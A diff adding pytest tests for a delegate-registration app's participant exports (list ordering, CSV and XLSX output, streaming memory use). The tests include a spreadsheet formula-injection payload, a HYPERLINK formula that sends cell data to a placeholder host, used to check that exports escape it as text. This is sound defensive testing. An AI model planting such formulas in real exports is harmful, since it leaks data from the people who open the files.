@@ -1,0 +1,133 @@
+import csv
+import io
+import tracemalloc
+
+import pytest
+from openpyxl import load_workbook
+
+from delegates.enums import RegistrationStatus, Role
+from delegates.exports import (
+    clean_cell,
+    participants_csv_chunks,
+    participants_for_list,
+    participants_xlsx,
+)
+from delegates.models import Registration
+from tests.factories import MeetingFactory, RegistrationFactory, UserFactory, member
+
+HYPERLINK = '=HYPERLINK("http://x/?"&A1)'
+CONFIRMED = RegistrationStatus.CONFIRMED
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    (HYPERLINK, "'" + HYPERLINK),
+    ("+31 20 555 0101", "'+31 20 555 0101"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1+1", "'=1+1"),
+    ("\r=1+1", "'=1+1"),
+    ("Ana\x00 Lim\x1b", "Ana Lim"),
+    ("Line one\nline two", "Line one\nline two"),
+    ("Nguyễn Thị Hương", "Nguyễn Thị Hương"),
+    (None, ""),
+    (7, 7),
+])
+def test_clean_cell_escapes_formulas_and_strips_control_characters(value, expected):
+    assert clean_cell(value) == expected
+
+
+@pytest.fixture
+def meeting(db):
+    return MeetingFactory(host_member=member("VN"), list_host_first=True)
+
+
+def test_list_orders_host_first_then_members_alphabetically_head_first(meeting):
+    RegistrationFactory(meeting=meeting, member=member("DE"), family_name="Adler",
+                        status=CONFIRMED)
+    RegistrationFactory(meeting=meeting, member=member("DE"), family_name="Zimmer",
+                        role=Role.HEAD_OF_DELEGATION, status=CONFIRMED)
+    RegistrationFactory(meeting=meeting, member=member("AT"), family_name="Berger",
+                        status=CONFIRMED)
+    RegistrationFactory(meeting=meeting, member=member("VN"), family_name="Trần",
+                        status=CONFIRMED)
+    RegistrationFactory(meeting=meeting, member=member("AT"), family_name="Pending")
+
+    names = [r.family_name for r in participants_for_list(meeting)]
+
+    assert names == ["Trần", "Berger", "Zimmer", "Adler"]
+
+
+def test_list_puts_host_in_alphabetical_place_when_the_meeting_says_so(meeting):
+    meeting.list_host_first = False
+    meeting.save()
+    RegistrationFactory(meeting=meeting, member=member("VN"), family_name="Trần",
+                        status=CONFIRMED)
+    RegistrationFactory(meeting=meeting, member=member("AT"), family_name="Berger",
+                        status=CONFIRMED)
+
+    assert [r.member.code for r in participants_for_list(meeting)] == ["AT", "VN"]
+
+
+def test_csv_escapes_a_formula_in_a_name(meeting):
+    RegistrationFactory(meeting=meeting, given_name=HYPERLINK, family_name="Doe",
+                        status=CONFIRMED, phone="+49 30 555 0000")
+
+    text = "".join(participants_csv_chunks(participants_for_list(meeting)))
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+
+    assert rows[0][:3] == ["Member", "Honorific", "Name as written"]
+    assert rows[1][2] == "'" + HYPERLINK + " Doe"
+    assert rows[1][3] == "'" + HYPERLINK
+    assert rows[1][10] == "'+49 30 555 0000"
+
+
+def test_xlsx_keeps_a_formula_in_a_name_as_text(meeting):
+    RegistrationFactory(meeting=meeting, given_name=HYPERLINK, family_name="Doe\x07",
+                        status=CONFIRMED)
+
+    data = participants_xlsx(participants_for_list(meeting), title="Participants")
+    sheet = load_workbook(io.BytesIO(data)).active
+    given = sheet.cell(row=2, column=4)
+
+    assert given.value == "'" + HYPERLINK
+    assert given.data_type == "s"
+    assert sheet.cell(row=2, column=5).value == "Doe"
+
+
+def test_export_views_answer_in_three_formats(client, meeting):
+    from django.contrib.auth.models import Group
+
+    user = UserFactory(username="viewer", is_staff=True)
+    user.groups.add(Group.objects.get(name="Secretariat viewer"))
+    client.force_login(user)
+    RegistrationFactory(meeting=meeting, status=CONFIRMED, given_name="สมชาย",
+                        family_name="ใจดี")
+
+    csv_response = client.get(f"/staff/{meeting.slug}/participants.csv")
+    xlsx_response = client.get(f"/staff/{meeting.slug}/participants.xlsx")
+    pdf_response = client.get(f"/staff/{meeting.slug}/participants.pdf")
+
+    assert csv_response.streaming
+    assert "สมชาย ใจดี" in b"".join(csv_response.streaming_content).decode("utf-8-sig")
+    assert xlsx_response.content[:2] == b"PK"
+    assert pdf_response.content[:5] == b"%PDF-"
+
+
+def test_csv_of_fifty_thousand_rows_streams_in_little_memory(meeting):
+    meeting.capacity = 60000
+    meeting.save()
+    Registration.objects.bulk_create(
+        Registration(meeting=meeting, member=member("DE"), given_name="Anna",
+                     family_name=f"Schmidt{n}", email=f"p{n}@example.org",
+                     status=CONFIRMED, badge_code=f"code{n}")
+        for n in range(50_000)
+    )
+    tracemalloc.start()
+    rows = 0
+    for chunk in participants_csv_chunks(participants_for_list(meeting)):
+        rows += chunk.count("\n")
+    _current, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+
+    assert rows == 50_001
+    assert peak < 50 * 1024 * 1024
